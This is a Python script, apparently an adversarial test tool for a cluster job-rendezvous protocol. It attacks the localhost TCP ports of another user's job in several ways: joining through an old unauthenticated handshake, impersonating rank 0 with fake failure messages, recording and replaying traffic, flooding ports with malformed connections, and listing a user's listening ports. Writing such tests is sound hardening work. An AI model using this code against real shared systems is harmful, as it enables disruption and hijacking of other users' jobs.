# SPDX-License-Identifier: Apache-2.0
"""network.py COMMAND PORT ...: attack a TCP port of another user's job.

    join PORT RANK SIZE [TEXT]      join as this rank, by the protocol from before ranks had a secret; then stay silent, or report a
                                    failure with this text
    host PORT TEXT                  act as rank 0: accept connections, and report a failure to each
    record PORT TO FILE             forward connections to the port TO, and write what the caller sends into FILE
    replay PORT FILE                send that again
    idle PORT CONNECTIONS SECONDS   open connections, and send nothing
    flood PORTS CONNECTIONS IDLE SECONDS    open so many connections of all kinds, as fast as possible, to ports "1,2,3"; keep IDLE of
                                    each port open for these seconds
    ports UID                       print the TCP ports at which processes of this user listen
"""
import os
import random
import resource
import select
import socket
import struct
import sys
import time

MAGIC = 0x33444C53
OLD_MAGIC = 0x48444C53
STREAM_MAGIC = 0x646C6331
BOOTSTRAP, MESH, COLLECTOR = 0x626F, 0x6D65, 0x636F
HELLO = 60
FAILED = 5


def connect(port, seconds=20):
    end = time.monotonic() + seconds
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port), 10)
        except OSError:
            if time.monotonic() > end:
                raise
            time.sleep(0.02)


def fnv(texts):
    """Return the key of a step in the old protocol: a hash of its name."""
    h = 0xCBF29CE484222325
    for text in texts:
        for c in text.encode() + b"\xff":
            h = (h ^ c) * 0x100000001B3 % (1 << 64)
    return h


def failure(words):
    body = struct.pack("=i", 5) + words.encode().decode("unicode_escape").encode("latin-1")
    return struct.pack("=IIQ", STREAM_MAGIC, FAILED, len(body)) + body


def join(port, rank, size, words=""):
    key = fnv([os.environ.get("SLURM_JOB_ID", ""), os.environ.get("SLURM_STEP_ID", ""), ""])
    hello = struct.pack("=qq64sIi", int(rank), int(size), b"node", 1, 0) + struct.pack("=I", int(rank))
    s = connect(int(port))
    s.sendall(struct.pack("=IHHQ8xI", OLD_MAGIC, BOOTSTRAP, 1, key, len(hello)) + hello)
    s.settimeout(10)
    try:
        welcome = s.recv(4096)
        if words and welcome:
            s.sendall(failure(words))
    except OSError:
        welcome = b""
    print("welcome" if welcome else "sent away", flush=True)
    try:
        while welcome and s.recv(4096):
            pass
    except OSError:
        pass


def listen(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", port))
    s.listen(64)
    return s


def host(port, words):
    s = listen(int(port))
    print("ready", flush=True)
    s.settimeout(60)
    while True:
        c, _ = s.accept()
        c.settimeout(5)
        try:
            c.recv(4096)
            c.sendall(failure(words))
            time.sleep(0.2)
        except OSError:
            pass
        c.close()


def record(port, to, path):
    """Forward callers one after the other; keep the recording of the one that sends most."""
    s = listen(int(port))
    print("ready", flush=True)
    best = b""
    while True:
        s.settimeout(60)
        a, _ = s.accept()
        b = connect(int(to))
        said = b""
        while True:
            ready = select.select([a, b], [], [], 60)[0]
            data = ready[0].recv(65536) if ready else b""
            if not data:
                break
            (b if ready[0] is a else a).sendall(data)
            if ready[0] is a:
                said += data
                if len(said) > len(best):
                    best = said
                    with open(path, "wb") as f:
                        f.write(best)
        a.close()
        b.close()


def replay(port, path):
    said = open(path, "rb").read()
    s = connect(int(port))
    s.settimeout(20)
    s.sendall(said[:HELLO])
    answer = s.recv(4096)
    s.sendall(said[HELLO:])
    try:
        more = s.recv(4096)
    except OSError:
        more = b""
    print("said %d bytes: %s" % (len(said), "answered" if more else "sent away" if answer else "not answered"))


def raise_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def idle(port, connections, seconds):
    raise_limit()
    held = [connect(int(port)) for _ in range(int(connections))]
    print("ready", flush=True)
    time.sleep(float(seconds))
    return held


def kinds(r):
    """Yield first messages that a process without the secret may send."""
    hello = struct.pack("=IHHI", MAGIC, r.choice([BOOTSTRAP, MESH, COLLECTOR]), 2, r.choice([0, 1, 2])) + r.randbytes(48)
    yield b""
    yield b"GET / HTTP/1.1\r\n\r\n"
    yield r.randbytes(r.randrange(1, 400))
    yield hello
    yield hello + r.randbytes(36)
    yield hello + struct.pack("=I", r.choice([0, 16, 0xFFFFFFFF])) + r.randbytes(64)
    yield hello[:r.randrange(1, HELLO)]


def flood(ports, connections, held_each, seconds):
    raise_limit()
    r = random.Random(1)
    held, recent, made, refused = {}, [], 0, 0
    ports = [int(p) for p in ports.split(",")]
    began = time.monotonic()
    for p in ports:
        held[p] = []
    print("ready", flush=True)
    while made < int(connections):
        for say in kinds(r):
            p = r.choice(ports)
            s = socket.socket()
            s.settimeout(5)
            try:
                s.connect(("127.0.0.1", p))
                if len(held[p]) < int(held_each):
                    held[p].append(s)
                elif say:
                    s.sendall(say)
            except OSError:
                refused += 1
            made += 1
            recent.append(s)
            if len(recent) > 200:
                old = recent.pop(0)
                if not any(old in h for h in held.values()):
                    old.close()
    print("%d connections in %.1f s, %d refused, %d stayed open" % (made, time.monotonic() - began, refused, sum(map(len, held.values()))), flush=True)
    time.sleep(float(seconds))


def ports(uid):
    found = set()
    for path in "/proc/net/tcp", "/proc/net/tcp6":
        for line in open(path).read().splitlines()[1:] if os.path.exists(path) else []:
            words = line.split()
            if words[3] == "0A" and words[7] == uid:
                found.add(int(words[1].split(":")[1], 16))
    print(",".join(map(str, sorted(found))))


if __name__ == "__main__":
    {f.__name__: f for f in (join, host, record, replay, idle, flood, ports)}[sys.argv[1]](*sys.argv[2:])
